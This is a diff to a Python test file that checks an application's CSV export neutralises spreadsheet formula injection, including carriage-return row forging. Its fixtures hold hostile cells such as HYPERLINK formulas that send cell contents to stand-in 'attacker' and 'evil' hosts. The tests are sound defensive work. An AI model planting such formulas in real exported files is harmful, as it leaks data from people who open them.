@@ -9,6 +9,7 @@ from typing import Any
 
 import numpy as np
 import pandas as pd
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -18,17 +19,25 @@ from evidence_app.render import _arrow_csv, _csv_value, plain, to_csv
 
 
 def reference_csv(frame: pd.DataFrame) -> str:
-    """The writer as it was: every value through plain(), row by row."""
-    buf = io.StringIO()
-    writer = csv.writer(buf, lineterminator="\n")
-    writer.writerow(frame.columns)
-    for row in frame.itertuples(index=False, name=None):
+    """The writer as it was: every value through plain(), row by row; a row ends in \n, and a cell holding a CR
+    is quoted too (the csv module quotes what its line terminator holds: each row is written with \r\n, which
+    is then cut back to \n)."""
+    out = []
+    for row in [list(frame.columns), *frame.itertuples(index=False, name=None)]:
         values: list[Any] = [plain(v) for v in row]
-        writer.writerow(["" if v is None else _csv_value(v) for v in values])
-    return buf.getvalue()
+        buf = io.StringIO()
+        csv.writer(buf, lineterminator="\r\n").writerow(
+            ["" if v is None else _spreadsheet_safe(v) if isinstance(v, str) else _csv_value(v) for v in values])
+        out.append(buf.getvalue().removesuffix("\r\n") + "\n")
+    return "".join(out)
 
 
-texts = st.text(alphabet=st.sampled_from(list('ab,"\n\r é') + ["\u2028"]), max_size=6)
+def _spreadsheet_safe(text: str) -> str:
+    """OWASP, written out: a text cell starting = + - @ tab or CR gets a leading quote."""
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
+texts = st.text(alphabet=st.sampled_from(list('ab,"\n\r é=+-@\t') + ["\u2028"]), max_size=6)
 
 
 odd_values = st.sampled_from([float("nan"), pd.NA, pd.NaT, np.float64(1.0), 3, 2.5, 'x"', "a,b"])
@@ -165,3 +174,36 @@ def test_timestamps_written_digit_by_digit_equal_numpys_own_iso_text(micros):
 def test_five_digit_years_keep_numpys_text():
     column = pd.Series(pd.array(np.array(["12000-01-01T00:00:00.5", "NaT"], dtype="datetime64[us]"))).dt.tz_localize("UTC")
     assert iso_utc_text(column).tolist()[0] == "12000-01-01T00:00:00.500000Z"
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1,"details")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
+@pytest.mark.parametrize("dtype", [TEXT_DTYPE, object, "category"])
+def test_a_formula_in_a_text_cell_is_neutralised_for_spreadsheets(cell, dtype):
+    frame = pd.DataFrame({"operator": pd.Series([cell, "plain"], dtype=dtype), "n": [-1, 2]})
+    rows = list(csv.reader(io.StringIO(to_csv(frame))))
+    assert rows[1] == ["'" + cell, "-1"] and rows[2] == ["plain", "2"]
+
+
+def test_numbers_and_text_that_only_contains_formula_characters_are_untouched():
+    frame = pd.DataFrame({"t": pd.Series(["a=b", "x-1", "", None], dtype=TEXT_DTYPE), "n": [-1.5, -2.0, 0.0, 1.0],
+                          "i": [-1, -2, -3, 4]})
+    assert to_csv(frame) == "t,n,i\na=b,-1.5,-1\nx-1,-2.0,-2\n,0.0,-3\n,1.0,4\n"
+
+
+@pytest.mark.parametrize("dtype", [TEXT_DTYPE, object])
+def test_a_carriage_return_inside_a_cell_cannot_forge_a_row(dtype):
+    """The csv module leaves a lone CR bare when rows end in \\n; a spreadsheet ends the row there, so
+    'x\\r=HYPERLINK(…)' would become a row of its own beginning with a live formula. Such a cell is quoted."""
+    frame = pd.DataFrame({"operator": pd.Series(["x\r=HYPERLINK(\"http://evil/\")", "ok"], dtype=dtype), "n": [1, 2]})
+    text = to_csv(frame)
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [
+        ["operator", "n"], ["x\r=HYPERLINK(\"http://evil/\")", "1"], ["ok", "2"]]
+    assert text.count("\n") == 3
+
+
+def test_the_cli_csv_neutralises_a_hostile_operator_and_json_keeps_it_raw(scenario):
+    hostile = '=HYPERLINK("http://attacker/?"&A1,"details")'
+    scenario.op("o1", user=hostile).op("o2", user="-1+1")
+    rows = list(csv.DictReader(io.StringIO(scenario.cli("exceptions", "--format", "csv").stdout)))
+    assert sorted(r["operator"] for r in rows) == sorted(["'" + hostile, "'-1+1"])
+    assert sorted(r["operator"] for r in scenario.json("exceptions")) == sorted([hostile, "-1+1"])
